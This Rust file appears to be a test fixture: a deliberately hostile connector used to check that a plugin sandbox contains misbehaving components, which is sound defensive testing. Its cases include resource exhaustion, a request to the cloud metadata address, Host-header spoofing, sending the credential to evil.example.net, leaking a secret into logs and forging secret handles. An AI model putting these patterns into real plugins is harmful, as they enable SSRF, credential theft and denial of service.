//! A hostile connector. `check` behaves; `create-user` misbehaves in the way
//! its login names, so one installed component serves every hostile test.

use provisio_sdk::error::{RateLimit, Result, permanent, transient};
use provisio_sdk::{
    Account, Connector, Context, ContextExt, Descriptor, NewAccount, Operation, SettingSchema, SettingType, http, log,
};

pub struct Hostile;

fn target(ctx: &Context) -> Result<String> {
    Ok(ctx.setting_text("target")?.trim_end_matches('/').to_string())
}

#[allow(unconditional_recursion)]
fn recurse(depth: u64) -> u64 {
    // black_box keeps the optimiser from turning this into a loop.
    std::hint::black_box(recurse(std::hint::black_box(depth + 1))) + 1
}

/// Recursion with 64 KiB frames: the shadow stack in linear memory runs out
/// long before wasm's own call stack does.
#[allow(unconditional_recursion)]
fn recurse_large(depth: u64) -> u64 {
    let frame = std::hint::black_box([depth as u8; 64 << 10]);
    std::hint::black_box(recurse_large(std::hint::black_box(depth + u64::from(frame[7])))) + 1
}

fn account(id: impl Into<String>) -> Account {
    Account { id: id.into(), login: None, active: None, profile: Vec::new() }
}

impl Connector for Hostile {
    fn describe() -> Descriptor {
        Descriptor {
            name: "hostile".into(),
            version: "0.1.0".into(),
            operations: vec![Operation::Check, Operation::CreateUser],
            settings: vec![SettingSchema {
                name: "target".into(),
                setting_type: SettingType::Url,
                required: true,
                description: "The test server.".into(),
            }],
            credentials: vec!["api".into()],
            profile: Vec::new(),
        }
    }

    fn check(ctx: Context) -> Result<()> {
        http::get(format!("{}/ok", target(&ctx)?)).send()?.error_for_status("check")?;
        Ok(())
    }

    fn create_user(ctx: Context, user: NewAccount) -> Result<Account> {
        let target = target(&ctx)?;
        let auth = ctx.credential("api");
        match user.login.as_str() {
            "endless-loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "memory-bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "panic" => panic!("connector bug: the answer was not 42"),
            "stack-overflow" => {
                std::hint::black_box(recurse(0));
            }
            "undeclared-host" => {
                http::get("http://undeclared.example.org/").send()?;
            }
            "ungranted-host" => {
                http::get("http://evil.example.net/").send()?;
            }
            "metadata" => {
                http::get("http://169.254.169.254/latest/meta-data/").send()?;
            }
            "redirect" => {
                http::get(format!("{target}/redirect")).send()?;
            }
            "big-response" => {
                http::get(format!("{target}/big")).send()?;
            }
            "big-request" => {
                http::post(format!("{target}/echo")).body("application/octet-stream", vec![b'x'; 2 << 20]).send()?;
            }
            "host-header" => {
                http::get(format!("{target}/ok")).header("Host", "admin.internal").send()?;
            }
            "echo-secret" => {
                // The app echoes the Authorization header; the guest tries to
                // log it and to return it in its error.
                let echoed = http::get(format!("{target}/echo-auth")).auth(auth).send()?.text();
                log::info(&format!("the app said: {echoed}"));
                eprintln!("stderr: {echoed}");
                return Err(permanent(format!("echo: {echoed}")));
            }
            "slow-app" => {
                http::get(format!("{target}/slow")).send()?;
            }
            "log-flood" => {
                for i in 0..200_000 {
                    log::info(&format!("flooding the log, line {i} ......................................"));
                }
            }
            "request-flood" => loop {
                http::get(format!("{target}/ok")).send()?;
            },
            "secret-in-request" => {
                let secret = auth.ok_or_else(|| permanent("no credential"))?;
                // The handle is only a number in this component's table: putting
                // it anywhere sends nothing secret.
                let handle = secret.handle();
                http::post(format!("{target}/echo?secret={handle}"))
                    .body("text/plain", format!("secret={handle}").into_bytes())
                    .send()?;
                // Asking the host to write the app credential into a body is refused.
                http::post(format!("{target}/echo"))
                    .body("application/json", b"{\"password\": null}".to_vec())
                    .send_with_secret(secret, "/password")?;
            }
            "credential-elsewhere" => {
                // The credential is bound to the target's origin.
                http::get("http://evil.example.net/").auth(auth).send()?;
            }
            "credential-second-origin" => {
                // The same server under a second origin, granted to the app
                // but not to the credential.
                let other = target.replace("127.0.0.1", "localhost");
                http::get(format!("{other}/echo-auth")).auth(auth).send()?.error_for_status("echo")?;
                return Err(permanent("the credential reached a second origin"));
            }
            "busy-host" => {
                // Each call costs the host a 16 MiB copy and the guest almost
                // no fuel; the loop never ends on its own.
                http::get(format!("{target}/started")).send()?;
                let huge = "x".repeat(16 << 20);
                loop {
                    log::info(&huge);
                }
            }
            "busy-host-http" => {
                let body = vec![b'x'; 16 << 20];
                loop {
                    let _ = http::post("http://undeclared.example.org/").body("text/plain", body.clone()).send();
                }
            }
            "huge-error" => return Err(permanent(format!("{}END", "e".repeat(20 << 20)))),
            "nul-error" => return Err(transient("bad\0thing")),
            "nul-id" => return Ok(account("a\0b")),
            "huge-id" => return Ok(account("i".repeat(2000))),
            "retry-after-max" => {
                return Err(provisio_sdk::error::ConnectorError::RateLimited(RateLimit {
                    message: "slow down, forever".into(),
                    retry_after_ms: Some(u64::MAX - 1),
                }));
            }
            "error-without-request" => return Err(transient("the connector made this up")),
            "big-header" => {
                http::get(format!("{target}/ok")).header("x-big", &"h".repeat(2 << 20)).send()?;
            }
            "many-headers" => {
                let mut req = http::get(format!("{target}/ok"));
                for i in 0..20_000 {
                    req = req.header(&format!("x-h{i}"), "a-value-of-some-fifty-bytes-to-make-this-count-up");
                }
                req.send()?;
            }
            "long-url" => {
                http::get(format!("{target}/{}", "u".repeat(100_000))).send()?;
            }
            "localhost-dot" => {
                let port = target.rsplit(':').next().unwrap_or("80");
                http::get(format!("http://localhost.:{port}/ok")).send()?.error_for_status("localhost.")?;
                return Ok(account("reached"));
            }
            "relative-redirect" => {
                let landed = http::get(format!("{target}/redirect-relative")).send()?.error_for_status("landing")?;
                return Ok(account(landed.text()));
            }
            "stack-large-frames" => {
                std::hint::black_box(recurse_large(0));
            }
            "forged-handle" => {
                #[allow(unsafe_code)]
                // SAFETY: deliberately unsound: proves the host refuses a handle it never gave.
                let forged = unsafe { provisio_sdk::Secret::from_handle(4242) };
                http::get(format!("{target}/ok")).auth(Some(&forged)).send()?;
            }
            other => return Err(permanent(format!("unknown attack {other}"))),
        }
        Ok(account("never"))
    }
}

provisio_sdk::export_connector!(Hostile);
